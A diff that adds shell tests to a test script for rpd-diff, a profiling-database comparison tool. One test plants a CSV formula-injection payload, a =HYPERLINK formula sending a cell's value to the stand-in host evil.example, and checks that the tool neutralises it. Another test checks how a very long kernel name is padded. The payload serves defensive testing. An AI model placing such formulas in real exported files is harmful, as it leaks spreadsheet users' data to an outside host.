@@ -49,6 +49,26 @@ rpd-diff -f csv --by marker --rank-a 0 --rank-b 2 m.rpd m.rpd >mm.csv
 rpd-diff -f csv --by marker r0.rpd r2.rpd >rm.csv
 same_file "UserMarker rows of two merged ranks" mm.csv rm.csv
 
+# CSV formula injection: a kernel name a spreadsheet would run gets a
+# leading '; negative deltas stay numbers; --csv-raw writes it as it is
+tmpcopy r0.rpd evil.rpd
+q evil.rpd "update rocpd_string set string = '=HYPERLINK(\"http://evil.example/?leak=\"&B2,\"click\")' where string = 'attn_fwd'"
+rpd-diff -f csv --by kernel evil.rpd r0.rpd >evil.csv
+check_eq "formula: the name neutralised, removed row's delta a negative number" 1 \
+  "$(grep -c "^kernel,\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&B2,\"\"click\"\")\",${a%|*},0,[0-9.]*,0.0,[0-9.]*,,-[0-9.]*,-100.0,removed.\$" evil.csv)"
+rpd-diff -f csv --csv-raw --by kernel evil.rpd r0.rpd >evil_raw.csv
+check_eq "formula: --csv-raw as it is" "$(sed "s/\"'=/\"=/" evil.csv | cksum)" "$(cksum <evil_raw.csv)"
+check "formula: --csv-raw has the raw cell" grep -q '^kernel,"=HYPERLINK' evil_raw.csv
+
+# one 100,000-character kernel name pads no other row (a column is padded
+# to at most 512 characters): the table stays about the size of its text
+tmpcopy r0.rpd huge.rpd
+q huge.rpd "update rocpd_string set string = replace(hex(zeroblob(50000)), '0', 'k') where string = 'attn_fwd'"
+rpd-diff --by kernel huge.rpd r0.rpd >huge.txt
+check_eq "huge name: the table is under rows x 700 + 2 x 100,000 bytes" 1 \
+  "$(test "$(wc -c <huge.txt)" -lt $(( $(wc -l <huge.txt) * 700 + 200000 )) && echo 1)"
+check_eq "huge name: its row holds it whole" 1 "$(grep -c 'kkkkkkkkkk' huge.txt)"
+
 # added and removed
 tmpcopy r0.rpd ren.rpd
 q ren.rpd "update rocpd_string set string = 'renamed_kernel' where string = 'attn_fwd'"
